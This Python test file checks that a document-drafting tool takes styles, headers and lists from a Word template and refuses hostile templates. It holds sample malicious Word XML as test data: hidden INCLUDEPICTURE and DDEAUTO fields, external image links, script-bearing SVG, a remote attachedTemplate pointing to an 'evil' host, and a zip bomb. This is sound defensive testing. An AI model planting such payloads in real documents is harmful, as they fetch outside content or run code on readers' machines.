"""A document of Word in the look of the authority’s own model: what is taken of it, what is told, what is refused."""

import io
import os
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path

import docx
import docx_integrity
import pytest
from docx.enum.style import WD_STYLE_TYPE
from docx.shared import Cm
from openxml_audit import OpenXmlValidator

from conftest import Run
from drafting import VALMONT, view
from snr_cli.documents.formats.docx.model import docx_model
from snr_cli.documents.formats.docx.returned import edited_docx
from snr_cli.documents.formats.tree import ModelError
from snr_cli.documents.render import write_document
from test_docx import READS, SOFFICE, converted, opened, parts
from walks import walk


def picture() -> bytes:
    """Return a red square, as PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress((b"\0" + b"\xc0\x10\x20" * 8) * 8)
    head = struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


PICTURE = picture()
FRENCH = {
    "Heading1": "Titre1",
    "Heading2": "Titre2",
    "Title": "Titre",
    "Caption": "Lgende",
    "TableGrid": "Grilledutableau",
    "ListBullet": "Listepuces",
}
MODEL_TEXT = "Texte du modèle, qui reste chez lui"


@cache
def model(*, text: str = "") -> bytes:
    """Return the model of python-docx, with a head that has a picture and a link, and a foot."""
    made = docx.Document()
    section = made.sections[0]
    section.left_margin = section.right_margin = Cm(3)
    head = section.header.paragraphs[0]
    head.add_run("Commune de Valmont").add_picture(io.BytesIO(PICTURE), width=Cm(2))
    section.footer.paragraphs[0].text = "Le Maire"
    link = section.footer.part.relate_to(
        "https://valmont.example/", docx.opc.constants.RELATIONSHIP_TYPE.HYPERLINK, is_external=True
    )
    assert link
    if text:
        made.add_paragraph(text)
    saved = io.BytesIO()
    made.save(saved)
    return saved.getvalue()


def altered(data: bytes, change: Callable[[str, bytes], bytes | None], **more: bytes) -> bytes:
    """Return a file with its parts changed, and others added."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts(data).items():
            new = change(name, content)
            if new is not None:
                package.writestr(name, new)
        for name, content in more.items():
            package.writestr(name.replace("__", "/").replace("_DOT_", "."), content)
    return made.getvalue()


def french() -> bytes:
    """Return the model with the ids of a French Word, without List Number, without an outline for Heading 3."""

    def change(name: str, content: bytes) -> bytes:
        text = content.decode() if name.endswith(".xml") else ""
        if name in ("word/styles.xml", "word/numbering.xml"):
            for old, new in FRENCH.items():
                text = re.sub(rf'(?<!<w:name )(w:(?:val|styleId)=")({old})"', rf'\1{new}"', text)
            text = text.replace('<w:name w:val="Heading 3"/>', '<w:name w:val="Paragraphe de rapport"/>')
            text = text.replace('<w:name w:val="heading 3"/>', '<w:name w:val="Paragraphe de rapport"/>')
            return text.encode()
        return content

    return altered(model(), change)


@cache
def drafted(data: bytes, document: str = "note") -> bytes:
    """Return a document of Valmont in a model."""
    made = write_document(view(document, VALMONT), "docx", model=data)
    assert isinstance(made, bytes)
    return made


def style_of(data: bytes, name: str) -> set[str]:
    """Return the ids of the styles of the headings of the first level, and so on."""
    return {paragraph.style.style_id for paragraph in opened(data).paragraphs if paragraph.style.name.lower() == name}


@pytest.mark.parametrize(
    ("given", "first", "title"), [(model, "Heading1", "Title"), (french, "Titre1", "Titre")], ids=["en", "fr"]
)
def test_headings_take_the_styles_of_the_model(given: Callable[[], bytes], first: str, title: str) -> None:
    """They are known by their names, whatever their ids."""
    made = drafted(given())
    text = parts(made)["word/document.xml"].decode()
    assert all(f'<w:pStyle w:val="{each}"/>' in text for each in (first, title))
    used = set(re.findall(r'<w:(?:pStyle|rStyle|tblStyle) w:val="([^"]+)"', text))
    assert used <= {style.style_id for style in opened(made).styles}
    wanted = opened(given()).styles.element.get_by_id(first)
    assert opened(made).styles.element.get_by_id(first).xml == wanted.xml


def test_heading_without_the_name_is_known_by_its_level() -> None:
    """The one that another heading is based on, or that says its level."""
    assert docx_model(french()).styles.ids["Titre3"] == "Heading3"


def saved_by_libreoffice() -> bytes:
    """Return the model as LibreOffice saves one: no style is the default one, the first titles have a colour, there is no Title."""

    def change(name: str, content: bytes) -> bytes:
        if name != "word/styles.xml":
            return content
        text = content.decode().replace(' w:default="1"', "")
        text = re.sub(r'<w:style [^<>]*w:styleId="Title".*?</w:style>', "", text, flags=re.S)
        heading = re.search(r'<w:style [^<>]*w:styleId="Heading1".*?</w:style>', text, re.S)
        assert heading is not None
        colored = re.sub(r"<w:color [^<>]*/>", '<w:color w:val="b00020"/>', heading[0])
        return text.replace(heading[0], colored).encode()

    return altered(model(), change)


def test_a_model_that_libreoffice_saved_has_one_style_of_a_name_and_its_colour_everywhere() -> None:
    made = opened(drafted(saved_by_libreoffice()))
    names = [style.name.lower() for style in made.styles if style.type == WD_STYLE_TYPE.PARAGRAPH]
    assert [name for name in names if names.count(name) > 1] == []
    assert str(made.styles["Title"].font.color.rgb) == "B00020"
    assert {paragraph.style.name for paragraph in made.paragraphs} >= {"Normal", "Title", "Heading 1"}


def test_parts_of_the_model_are_there() -> None:
    """Its head with its picture, its foot, its theme, its margins."""
    made = drafted(model())
    found = opened(made)
    section = found.sections[0]
    assert "Commune de Valmont" in section.header.paragraphs[0].text
    assert section.footer.paragraphs[0].text == "Le Maire"
    assert section.left_margin == section.right_margin == opened(model()).sections[0].left_margin
    assert next(iter(section.header.part.related_parts.values())).blob == PICTURE
    assert parts(made)["word/theme/theme1.xml"] == parts(model())["word/theme/theme1.xml"]
    wide = section.page_width - section.left_margin - section.right_margin
    for table in found.tables:
        assert sum(column.width for column in table.columns) <= wide + 100


def test_missing_styles_are_added_and_told(snr: Run, tmp_path: Path) -> None:
    """One that the model lacks comes from snr, without a word of the model’s text."""
    given, output = tmp_path / "modele.docx", tmp_path / "note.docx"
    given.write_bytes(model(text=MODEL_TEXT))
    result = snr("draft", str(VALMONT), "-d", "note", "--format", "docx", "--model", str(given), "-o", str(output))
    assert result.returncode == 0, result.stderr
    told = result.stderr.decode()
    assert "modèle : styles créés : " in told
    assert "Mention" in told and "heading 1" not in told
    assert "modèle : son texte n’est pas repris" in told
    found = opened(output.read_bytes())
    assert found.styles["Mention"].type == WD_STYLE_TYPE.PARAGRAPH
    assert MODEL_TEXT not in "\n".join(paragraph.text for paragraph in found.paragraphs)


@pytest.mark.slow
@pytest.mark.parametrize("given", [model, french])
def test_document_is_right_and_the_same_twice(given: Callable[[], bytes], tmp_path: Path) -> None:
    """All that it refers to is there, it is as the schemas say, and no one has edited it."""
    made = drafted(given())
    path = tmp_path / "note.docx"
    path.write_bytes(made)
    assert list(docx_integrity.check(str(path))) == []
    before = tmp_path / "modele.docx"
    before.write_bytes(given())
    told = {error.description for error in OpenXmlValidator().validate(before).errors}
    assert {error.description for error in OpenXmlValidator().validate(path).errors} <= told
    assert edited_docx(made) == []
    again = write_document(view("note", VALMONT), "docx", model=given())
    assert isinstance(again, bytes)
    assert parts(again) == parts(made)


def test_lists_come_after_those_of_the_model() -> None:
    """No number of a list is given twice."""
    text = parts(drafted(model(), "strategie"))["word/numbering.xml"].decode()
    for pattern in (r'<w:num w:numId="(\d+)"', r'<w:abstractNum [^>]*w:abstractNumId="(\d+)"'):
        found = re.findall(pattern, text)
        assert found and len(found) == len(set(found))
    assert text.rindex("<w:abstractNum ") < re.search(r"<w:num\s", text).start()  # type: ignore[union-attr]


def replaced(name: str, old: str, new: str) -> Callable[[str, bytes], bytes]:
    """Return what changes a text in a part."""

    def change(each: str, content: bytes) -> bytes:
        if each != name:
            return content
        assert old.encode() in content
        return content.replace(old.encode(), new.encode())

    return change


def same(_: str, content: bytes) -> bytes:
    return content


MAIN = "wordprocessingml.document.main+xml"


def header() -> str:
    """Return the name of the part of the head of the model."""
    return next(name for name, content in parts(model()).items() if b"Valmont" in content and "header" in name)


@pytest.mark.parametrize(
    ("change", "more", "said"),
    [
        (replaced("[Content_Types].xml", MAIN, "x.document.macroEnabled.main+xml"), {}, "macros"),
        (same, {"word__vbaProject_DOT_bin": b"x"}, "macros"),
        (replaced("[Content_Types].xml", MAIN, "spreadsheetml.sheet.main+xml"), {}, "pas un document de Word"),
        (same, {"mimetype": b"application/vnd.oasis.opendocument.text"}, "pas un document de Word"),
        (lambda name, content: None if name == "word/styles.xml" else content, {}, "styles.xml"),
        (lambda name, content: b"<a" if name == "word/styles.xml" else content, {}, "styles"),
        (lambda name, content: b"<\xe9/>" if name == "word/document.xml" else content, {}, "pas en UTF-8"),
        (lambda name, content: b"" if name == "word/document.xml" else content, {}, "illisible"),
        (replaced("word/document.xml", "<w:document", "<!DOCTYPE a [<!ENTITY b 'c'>]><w:document"), {}, "DOCTYPE"),
        (
            replaced(
                "word/document.xml", "<w:sectPr", "<w:p>" + "<w:sdt>" * 300 + "</w:sdt>" * 300 + "</w:p><w:sectPr"
            ),
            {},
            "emboîtés",
        ),
        (replaced("word/document.xml", 'w:left="1701"', 'w:left="9000"'), {}, "8 cm"),
        (replaced("word/document.xml", 'w:left="1701"', 'w:left="1e9"'), {}, "illisible"),
        (replaced("word/numbering.xml", 'w:numId="1"', 'w:numId="2147483647"'), {}, "démesurés"),
        (
            replaced(header(), "Commune", "</w:t><w:instrText>INCLUDEPICTURE http://a/b</w:instrText><w:t>"),
            {},
            "autre fichier",
        ),
        (
            replaced(
                header().replace("word/", "word/_rels/") + ".rels", "relationships/image", "relationships/oleObject"
            ),
            {},
            "oleObject",
        ),
        (
            replaced(header().replace("word/", "word/_rels/") + ".rels", "Target=", 'TargetMode="External" Target='),
            {},
            "lien vers un fichier extérieur",
        ),
        (lambda name, content: None if name.startswith("word/media/") else content, {}, "manque"),
    ],
)
def test_a_hostile_model_is_refused(
    change: Callable[[str, bytes], bytes | None], more: dict[str, bytes], said: str
) -> None:
    """Whatever is wrong with it, in French, before anything is written."""
    with pytest.raises(ModelError, match=said):
        docx_model(altered(model(), change, **more))


def field(*codes: str) -> str:
    """Return a field of Word; a code that begins with « < » is XML, a field inside it."""
    inner = "".join(
        code if code.startswith("<") else f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>'
        for code in codes
    )
    ends = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")]
    return f"{ends[0]}{inner}{ends[1]}<w:r><w:t>1</w:t></w:r>{ends[2]}"


def with_head(inner: str) -> bytes:
    """Return the model with runs added to the paragraph of its head."""
    names = {
        "v": "urn:schemas-microsoft-com:vml",
        "o": "urn:schemas-microsoft-com:office:office",
        "x": "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
        "z": "http://schemas.openxmlformats.org/drawingml/2006/main",
    }

    def change(name: str, content: bytes) -> bytes:
        if name != header():
            return content
        text = content.decode()
        said = "".join(f' xmlns:{key}="{value}"' for key, value in names.items() if f"xmlns:{key}=" not in text)
        before, after = text.replace("<w:hdr ", f"<w:hdr{said} ", 1).rsplit("</w:p>", 1)
        return f"{before}{inner}</w:p>{after}".encode()

    return altered(model(), change)


FIELDS = (
    field(" IF 1=1 ", field(' INCLUDEPICTURE "http://a/b" \\d '), ' "" '),
    field(" IF ", " 1=1 ", '<w:r><w:instrText>"a" </w:instrText></w:r>', field("INC", "LUDE", "TEXT file.docx")),
    field(field(' QUOTE "INCLUDEPICTURE" '), ' "http://a/b" '),
    field(" INCL", field(" QUOTE UDEPICTURE "), ' "http://a/b" '),
    field("<w:fldSimple w:instr=' QUOTE INCLUDEPICTURE '/>", ' "http://a/b" '),
    field("<w:r><w:t> INCLUDEPICTURE </w:t></w:r>", ' "http://a/b" '),
    field(" QUOTE ", field(" IF 1=1 ", field(" DDEAUTO excel a b "))),
    field(' HYPERLINK "file://server/share" '),
    field(" HYPERLINK ", field(" QUOTE http://a ")),
    *(
        f'<w:fldSimple w:instr=" {code} a "/>'
        for code in ("includepicture", "RD", "Import", "AUTOTEXT", "DATABASE", "LINK")
    ),
)
OUTSIDE = (
    '<w:r><w:pict><v:shape><v:imagedata src="https://a/b.png"/></v:shape></w:pict></w:r>',
    '<w:r><w:pict><v:shape><v:imagedata src="\\\\serveur\\b.png"/></v:shape></w:pict></w:r>',
    '<w:r><w:pict><v:rect><v:fill o:href="https://a/b.png"/></v:rect></w:pict></w:r>',
    '<w:r><w:pict><v:rect><v:stroke imageSrc="a.png"/></v:rect></w:pict></w:r>',
    '<w:r><w:pict><v:rect href="file:///a"/></w:pict></w:r>',
    '<w:r><w:pict><v:shape><v:imagedata x:href="rId77"/></v:shape></w:pict></w:r>',
    '<w:r><z:blip x:link="rId78"/></w:r>',
    '<w:hyperlink x:id="rId79"><w:r><w:t>a</w:t></w:r></w:hyperlink>',
)


@pytest.mark.parametrize(
    ("inner", "said"),
    walk(
        [
            *((each, "champ « .+ », qui peut lire un autre fichier") for each in FIELDS),
            *((each, "mène à un fichier qui n’est pas dans le modèle") for each in OUTSIDE),
            ('</w:p><w:altChunk x:id="rId80"/><w:p>', "objet « altChunk »"),
            ('<w:r><w:object><o:OLEObject Type="Link"/></w:object></w:r>', "objet « OLEObject »"),
        ],
        5,
    ),
)
def test_what_reads_outside_is_refused_wherever_it_hides(inner: str, said: str) -> None:
    with pytest.raises(ModelError, match=said):
        docx_model(with_head(inner))
    with pytest.raises(ModelError, match=r"« word/header\d\.xml »"):
        docx_model(with_head(inner))


@pytest.mark.parametrize("part", ["numbering", "theme/theme1", "styles", "fontTable"])
def test_what_reads_outside_is_refused_in_each_part_that_is_copied(part: str) -> None:
    def change(name: str, content: bytes) -> bytes:
        added = b'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://a/b.png"/>'
        place = content.rindex(b"</") if name == f"word/{part}.xml" else None
        return content if place is None else content[:place] + added + content[place:]

    with pytest.raises(ModelError, match="mène à un fichier"):
        docx_model(altered(model(), change))


def test_fields_and_links_that_read_nothing_are_kept() -> None:
    inner = "".join(
        (
            field(" PAGE "),
            field(" PAGE\\* MERGEFORMAT "),
            field(" IF ", field(" PAGE "), " = 1 ", '"LINK, INCLUDEPICTURE" ', field(" NUMPAGES ")),
            field(" = ", field(" PAGE "), " + 1 "),
            field(' HYPERLINK "https://valmont.example/" '),
            field(' HYPERLINK \\l "titre" '),
            '<w:fldSimple w:instr=" STYLEREF Titre "/>',
            '<w:r><w:pict><v:rect href="https://valmont.example/"/></w:pict></w:r>',
        )
    )
    made = parts(drafted(with_head(inner)))
    head = next(content for name, content in made.items() if "headerModele" in name and b"STYLEREF" in content)
    assert head.count(b"fldCharType") == 27


def test_what_is_not_copied_leads_nowhere() -> None:
    """The text, its notes and comments, the glossary and the settings of a model stay where they are."""
    evil = '<w:altChunk r:id="rId1"/><w:instrText>INCLUDEPICTURE http://a.evil/b</w:instrText>'
    more = {
        f"word__{name}_DOT_xml": f'<w:{name} xmlns:w="a" xmlns:r="b">{evil}</w:{name}>'.encode()
        for name in ("footnotes", "endnotes", "comments", "glossary__document")
    }
    rel = '<Relationship Id="rId99" TargetMode="External" Target="http://a.evil/x.dotm" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    more["word___rels__settings_DOT_xml_DOT_rels"] = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rel}</Relationships>'.encode()
    )
    changed = altered(
        altered(model(), replaced("word/document.xml", "<w:sectPr", f"{evil}<w:sectPr")),
        replaced("word/settings.xml", "<w:zoom", '<w:attachedTemplate r:id="rId99"/><w:zoom'),
        **more,
    )
    for name, content in parts(drafted(changed)).items():
        assert not re.search(rb"evil|altChunk|attachedTemplate|INCLUDEPICTURE", content), name


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">%s</svg>'


@pytest.mark.parametrize(
    "inner",
    walk(
        [
            '<image xlink:href="https://a/b.png"/>',
            '<image href="file:///a.png"/>',
            '<use href="a.svg#b"/>',
            '<image href=" data:image/svg+xml;base64,aaaa"/>',
            "<style>@import 'a.css';</style>",
            "<rect style=\"fill:url( 'https://a/b#c')\"/>",
            "<script>a()</script>",
            "<rect onload='a()'/>",
            "<foreignObject/>",
        ],
        4,
    ),
)
def test_a_drawing_that_fetches_or_runs_is_refused(inner: str) -> None:
    for drawing in (SVG % inner, f'<?xml-stylesheet href="a.css"?>{SVG % "<rect/>"}'):
        for suffix in ("png", "svg"):  # what shows it looks at its bytes, not at its name

            def change(name: str, content: bytes, drawing: str = drawing, suffix: str = suffix) -> bytes:
                if name.startswith("word/media/"):
                    return drawing.encode()
                return content

            with pytest.raises(ModelError, match="dessin qui lit un autre fichier"):
                docx_model(altered(model(), change))


def test_a_drawing_that_is_whole_is_kept() -> None:
    own = SVG % '<rect fill="url(#a)"/><use xlink:href="#a"/><image href="data:image/png;base64,aaaa"/>'
    made = altered(model(), lambda name, content: own.encode() if name.startswith("word/media/") else content)
    assert own.encode() in docx_model(made).parts.values()


@pytest.mark.parametrize(
    ("name", "data", "form", "said"),
    [
        ("a.docx", b"PK\x03\x04 broken", "docx", "abîmée"),
        ("a.doc", bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600, "docx", "protégé par un mot de passe"),
        ("a.txt", b"bonjour", "docx", "abîmée"),
        ("a.docx", b"", "docx", "abîmée"),
        ("absent.docx", None, "docx", "absent.docx"),
        ("a.docx", model(), "md", "--model va avec --format docx"),
    ],
)
def test_what_is_no_model_is_a_mistake(
    name: str, data: bytes | None, form: str, said: str, snr: Run, tmp_path: Path
) -> None:
    """It ends with code 2, and nothing is written."""
    given = tmp_path / name
    if data is not None:
        given.write_bytes(data)
    output = tmp_path / f"out.{form}"
    done = snr("draft", str(VALMONT), "-d", "note", "-f", form, "--model", str(given), "-o", str(output))
    assert done.returncode == 2
    assert said in done.stderr.decode()
    assert not output.exists()


def test_a_bomb_is_refused() -> None:
    """A part that unpacks to more than a model has."""
    with pytest.raises(ModelError, match="démesuré"):
        docx_model(altered(model(), lambda name, data: b" " * (40 << 20) if name == "word/styles.xml" else data))


def test_the_model_is_not_written_over(snr: Run, tmp_path: Path) -> None:
    """It is a file that is read, under any name."""
    given = tmp_path / "modele.docx"
    given.write_bytes(model())
    done = snr("draft", str(VALMONT), "-d", "note", "-f", "docx", "--model", str(given), "-o", str(given))
    assert done.returncode == 2
    assert given.read_bytes() == model()


def test_a_template_of_word_is_a_model() -> None:
    """Its type is that of templates; what is written is a document."""
    given = altered(model(), replaced("[Content_Types].xml", MAIN, "wordprocessingml.template.main+xml"))
    assert opened(drafted(given)).paragraphs


@pytest.mark.slow
@pytest.mark.skipif(not ((SOFFICE and READS) or os.environ.get("CI")), reason="needs LibreOffice and Poppler")
def test_libreoffice_shows_the_model(tmp_path: Path) -> None:
    """The head of the model is on each page; a save is no edit."""
    target = tmp_path / "a.docx"
    target.write_bytes(drafted(model(), "strategie"))
    pages = converted(target, "pdf").decode().split("\f")[:-1]
    assert all("Commune de Valmont" in page and "Le Maire" in page for page in pages)
    data = converted(target, "docx:MS Word 2007 XML")
    assert edited_docx(data) == []
